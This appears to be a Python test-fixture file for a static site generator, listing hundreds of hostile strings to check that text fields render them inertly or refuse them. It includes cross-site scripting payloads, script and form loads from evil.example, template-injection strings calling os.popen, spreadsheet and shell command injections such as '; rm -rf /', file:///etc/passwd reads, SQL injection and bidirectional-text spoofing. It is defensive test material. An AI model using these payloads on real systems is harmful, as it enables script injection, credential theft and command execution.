"""Hostile texts of our own collection. A script in them calls ``alert`` or sets ``__pwned``."""

# ruff: noqa: E501  # a list is read down, not across

from __future__ import annotations

from base64 import b64encode

RUN = "__pwned=1"

#: Elements that run something automatically.
MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script>",
    "<script src=//evil.example/a.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>/*<!--*/{RUN}//--></script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</script\t><script\t>{RUN}</script\t>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</head><body onload={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text x=9 y=9>a</text></a></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}>#x'>",
    f"<svg></p><style><g title='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    "<img src=x:x onerror=&#95;&#95;pwned&#61;1>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img srcset=x onerror={RUN}>",
    "<img src=https://evil.example/p.png>",
    "<img src=//evil.example/p.png>",
    "<picture><source srcset=//evil.example/p.png><img src=x></picture>",
    f"<image src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<video poster=//evil.example/p.png></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=//evil.example/a.swf>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<button popovertarget=x>a</button><div popover id=x onbeforetoggle={RUN}>b</div>",
    f"<a autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<xss contenteditable autofocus onfocus={RUN}>x</xss>",
    f"<style>@keyframes x{{}}</style><xss style='animation-name:x' onanimationstart={RUN}></xss>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=import href=//evil.example/>",
    "<link rel=preload as=script href=//evil.example/a.js>",
    "<style>@import'//evil.example/a.css';</style>",
    "<style>body{display:none!important}</style>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>covered</div>",
    "<div style=background:url(//evil.example/p.png)>x</div>",
    "<form action=//evil.example/><input name=password><button>Sign in</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>Sign in</button>",
    "<plaintext>",
    "<textarea>swallowed",
    "<title>swallowed",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<table background=//evil.example/p.png><tr><td>x</table>",
    "<pre class=mermaid>graph TD; A-->B</pre>",
    "<code class=language-js>alert(1)</code>",
    "<div data-md-component=announce>x</div>",
    "<input type=checkbox id=__drawer checked>",
    "<script id=__config type=application/json>{\"base\":\"//evil.example\"}</script>",
    "<b id=content>twice</b>",
    "<p hidden>hidden</p>",
    "<h1>Correction: this site was hacked</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "ʺ><img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a onclick=alert(1)>x</a>",
]  # fmt: skip

#: Texts that break out of an attribute or a string.
BREAKOUTS = [
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f"`><svg onload={RUN}>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" style="position:fixed;inset:0" onmouseover="{RUN}" x="',
    f'" srcdoc="<script>{RUN}</script>" x="',
    f'" href="javascript:{RUN}" x="',
    f'" formaction="javascript:{RUN}" x="',
    f"&quot; onfocus={RUN} autofocus x=&quot;",
    f"&#34; onfocus={RUN} autofocus x=&#34;",
    f"\" onfocus={RUN} autofocus",
    f"x onfocus={RUN} autofocus",
    "\"/><meta http-equiv=refresh content=0;url=//evil.example>",
    "\" http-equiv=\"refresh\" content=\"0;url=//evil.example\" x=\"",
    f"\";{RUN};\"",
    f"';{RUN};'",
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"\\\";{RUN};//",
    f"\\';{RUN};//",
    f"\n{RUN}\n",
    f"*/{RUN}/*",
    f"</script>\";{RUN};//",
    f"\u2028{RUN}\u2028",
    f"]]>\";{RUN}",
    '"}],"@type":"Person","x":[{"y":"',
    '","reviewRating":{"alternateName":"True","ratingValue":5},"x":"',
    "\\",
    "\\\\",
    "ends with a backslash\\",
    '"', "'", "`", "<", ">", "&", "&amp;", "&copy", "&#x41;", "&#0;", "&NotAnEntity;", "<>", "</", "<!", "<?",
    "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "%", "%s %d %(x)s",
    "{", "}", "{}", "{0}", "{claim}", "{n}", "{0.__class__.__mro__}", "$1 $& \\1 \\g<0>", "#", ";", ",",
    "null", "undefined", "NaN", "true", "[object Object]", "__proto__", "constructor", "hasOwnProperty",
    "../../../etc/passwd", "..\\..\\x", "C:\\con", "con", "/", ".", "..", "~", "-", "--", "- x", "* x", "0", "0.0",
    "1e999", "0x41", "2026-13-45", "NULL); DROP TABLE claims;--", "' OR 1=1--",
]  # fmt: skip

#: Templates of MkDocs, the theme, and other programs.
TEMPLATES = [
    "{{ 7*7 }}", "{{config}}", "{{ config.items() }}", "{% raw %}", "{% include 'secret' %}", "{%- set x=1 -%}",
    "{# a comment #}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% for x in range(9**9) %}x{% endfor %}",
    "{{ lipsum(9) }}", "{{ page.title }}", "{{ factdesk.head }}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}", "<div v-html=\"'<img src=x onerror=alert(1)>'\">",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>", "<x-data x-init=alert(1)>", "%{7*7}", "!!python/object:x",
    "!ENV SITE_URL", "<#assign x=7>", "@(7*7)", "*{7*7}", "~{x}", "{php}alert(1){/php}",
]  # fmt: skip

#: The program's own placeholders, which are plain text in a claim.
OURS = [
    "fdslot0body0tolsdf", "fdslot0title0tolsdf", "fdslot0head0tolsdf fdslot0canonical0tolsdf", "FDSLOT0BODY0TOLSDF",
    "fdslot0description0tolsdf", "fdslot0zebra0tolsdf", "<!-- factdesk:home -->", "<!-- factdesk:head -->",
    "<!-- factdesk:scale -->", "<!-- factdesk:checks -->", "<!--factdesk:zebra-->", "[x](claim:bridge)",
    'href="claim:bridge"', '<a href="claim:bridge">x</a>', "claim:bridge", "[@s1]", "[@zebra]", "[@s1][@s2]", "slot/",
    "[[bridge]]", "#source-s1", "data-fd-search", "<div class=fd-claim>x</div>", "fd-verdict__word", "index.html",
    "</body>", "</body></html>", "<div id=content>", "SHA256SUMS", "_template",
]  # fmt: skip

#: Markdown that tries to create more than it may.
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java\nscript:{RUN})", f"[x](&#106;avascript:{RUN})",
    f"[x](<javascript:{RUN}>)", f"[x]( javascript:{RUN})", "[x](//evil.example)", "[x](https://evil.example \"'><svg onload=alert(1)>\")",
    f"[x](data:text/html;base64,{b64encode(b'<script>parent.__pwned=1</script>').decode()})", "[x](vbscript:x)", "[x](file:///etc/passwd)",
    "[x](https://user:pass@evil.example/)", "[x](https://evil.example\\@good.example)", "[x](mailto:a@b.example?bcc=c@d.example)",
    f"<javascript:{RUN}>", "<https://evil.example/>", "https://evil.example/\"><svg onload=alert(1)>", "www.evil.example",
    "![x](https://evil.example/p.png)", "![x](javascript:alert(1))", "![x\"onerror=alert(1)](y)", "![](x 'y\" onerror=alert(1) \"')",
    f"[x]: javascript:{RUN}\n\n[x]", "[x][y]\n\n[y]: data:text/html,x", "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
    "```\" onload=\"alert(1)\nx\n```", "```{=html}\n<script>alert(1)</script>\n```", "~~~ <script>\nx\n~~~", "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>", "# x {#content .x onclick=alert(1)}", "[x](y){onclick=alert(1)}", "[x](y){: style=color:red}", "*[x]: y",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|\n| x |", "| x |\n|:-:\"onclick=alert(1)|\n| y |",
    "- [x] <script>alert(1)</script>", "> <script>alert(1)</script>", "1. <svg onload=alert(1)>", "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
    "!!! note \"<script>alert(1)</script>\"\n    x", "??? x\n    y", "--8<-- \"/etc/passwd\"", "::: x\n", ":fontawesome-brands-x:", "$$\\href{javascript:alert(1)}{x}$$",
    "[TOC]", "\\<script>alert(1)\\</script>", "\\[x](javascript:alert(1))", "**<b>**x</b>", "~~<s>~~</s>", "==x== ^^y^^ ++z++", "[" * 200, "*" * 200, "> " * 60 + "x",
    "<" * 200, "`" * 199, "![" * 100, "[](" * 100, "&" * 200, "\\" * 199, "a](b" * 60, "_x" * 120,
]  # fmt: skip

#: Invalid addresses; for text fields, and refused as addresses.
SCRIPT_URLS = [
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"javascript\n:{RUN}", f"javascript://x%0a{RUN}",
    f"javascript:/*x*/{RUN}", f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}",
    f"\\u006aavascript:{RUN}", f"j\\avascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}!/x",
    f"data:text/html,<script>parent.{RUN}</script>", f"data:text/html;charset=utf-7,+ADw-script+AD4-{RUN}", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x/>", "blob:https://evil.example/x", "vbscript:msgbox(1)", "livescript:x", "mocha:x", "file:///etc/passwd",
    "filesystem:x", "about:blank", "ws://evil.example/", "ftp://evil.example/", "tel:+41790000000", "//evil.example", "\\\\evil.example\\x", "/\\evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "http:\\\\evil.example", "https://", "http://[::1", "http://x y/", "https://a:b@evil.example/",
    "https://evil.example@good.example/", "https://evil.example\\.good.example@x", "ｈttps://x", "https：//x", "hxxps://x", "chrome://x", "intent://x#Intent;end", "?x", "#x", "x",
]  # fmt: skip

#: Commands for programs that read the outputs.
COMMANDS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=IMPORTXML(\"https://evil.example\",\"//a\")", "+1+1", "-1+1", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
    ";=1+1", "\t=1+1", " =1+1", "\"=1+1", "'=1+1", "|calc", "%0A=1+1", "＝1+1", "–1", "=1+1\n=2+2",
    "::set-output name=x::y", "::error file=x,line=1::y", "::warning::x", "x\n::add-mask::y", "x\n::stop-commands::z", "##[error]x", "%0A::error::x", "::debug::x", "::group::x\n::endgroup::",
    "x\n\nSet-Cookie: a=b", "TY  - JOUR\nER  - ", "@misc{x, note = {y}}", "} @string{x = \"y\"}", "\\input{/etc/passwd}", "\\write18{id}", "%x\n\\end{document}", "$(id)", "`id`", "; rm -rf /", "| id", "&& id", "\n- item: x", "key: value",
    "--- ", "...", "%YAML 1.2", "<<: *x", "&a x", "*a", "? x", "\"unclosed", "#!/bin/sh", "\\033[31mred", "\\x1b[2J", "^[[2J", "\\r\\n", "\\0", "[31m",
]  # fmt: skip

#: Text in many scripts, which is not hostile, and long words, which are a challenge.
WRITING = [
    "العربية من اليمين إلى اليسار", "עברית מימין לשמאל", "اردو: حکومت نے کہا", "می‌خواهم کتاب‌ها", "हिन्दी क्ष श्री", "ภาษาไทยไม่มีช่องว่าง", "မြန်မာစာ", "ខ្មែរ", "தமிழ் நாடு", "日本語の文章。", "中文句子，没有空格。", "한국어 문장.",
    "Ελληνικά ΣΊΣΥΦΟΣ ς", "Кириллица ё й", "İstanbul ıI iİ", "Straße ẞ GROSS", "ﬁ ﬂ ﬀ ligatures", "é (composed) é (combined)", "Z̸̡̗͖̎a̵̡̛͖l̵̨̛͖g̷̢̛o̸͖̕", "a\u0300\u0301\u0302\u0303\u0304\u0305 many marks", "👩‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁳󠁣󠁴󠁿 flag", "👍🏽 skin", "🇨🇭 flag", "1️⃣ keycap", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "ＦＵＬＬ ＷＩＤＴＨ", "ⅷ Ⅷ", "ͼ Ͼ",
    "mixed עברית and العربية and English 123 (א) [ب]", "\u200fmarks\u200e of direction", "\u2067isolated עברית\u2069 and closed", "soft\u00adhy\u00adphen", "no\u00a0break", "thin\u2009space", "line\u2028separator", "para\u2029graph", "e-mail@example.org", "https://example.org/a?b=c&d=e#f",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft", "x" * 250, "漢" * 250, "ⴰ" * 250, "w/" * 120, "a-" * 120, "_" * 250, "." * 250, "—" * 200, "１２３" * 80, "ا" * 250, "👩‍👩‍👧‍👦" * 25, "é" * 250, "\U00020000\U0002a6d6 rare", "\ue000 private", "\U0010fffd private", "\u0378 unassigned",
    "two\nlines", "three\n\n\nempty", "a\ttab", "trailing space ", " leading space", "  two  spaces  ",
]  # fmt: skip

#: Texts that every text field accepts, and shows as typed.
PAYLOADS = tuple(
    dict.fromkeys(
        text
        for texts in (
            MARKUP, BREAKOUTS, TEMPLATES, OURS, MARKDOWN, SCRIPT_URLS, COMMANDS, WRITING,
        )
        for text in texts
        if text.strip()
    )
)  # fmt: skip

#: Texts that no field accepts: their content is invisible.
REFUSED = (
    "a\x00b", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H", "a\x7fb", "a\x85b", "a\x9b31mb", "\x90x\x9c",
    "a\u202eb", "a\u202db", "user\u202egpj.exe", "a\u202ab", "a\u202bb", "a\u2066b", "a\u2067b", "a\u2068b", "a\u2069b", "a\u202cb", "\u2067a\n\n\u2069b",
    "a\U000e0001b", "a\U000e0041\U000e0042\U000e007f", "a\u3164b", "a\u115fb", "a\u1160b", "a\uffa0b", "a\u2800b", "a\u200bb", "a\ufeffb", "a\u2060b", "a\u2061b", "a\u2064b", "a\u206ab", "a\ufff9b\ufffac\ufffb", "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\U0001fffeb",
    "a\u180eb", "x\ufe00\ufe01\ufe02\ufe03\ufe04", "a\U000e0100b", "\U0001d173a", "\u17b4a",
)  # fmt: skip
